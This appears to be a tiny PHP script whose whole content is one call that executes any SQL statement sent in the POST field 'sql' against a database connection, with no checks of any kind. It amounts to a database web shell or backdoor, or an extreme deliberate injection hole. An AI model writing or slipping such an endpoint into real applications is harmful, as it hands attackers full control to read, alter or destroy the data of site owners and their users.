<?php
mysqli_query($l, $_POST['sql']);
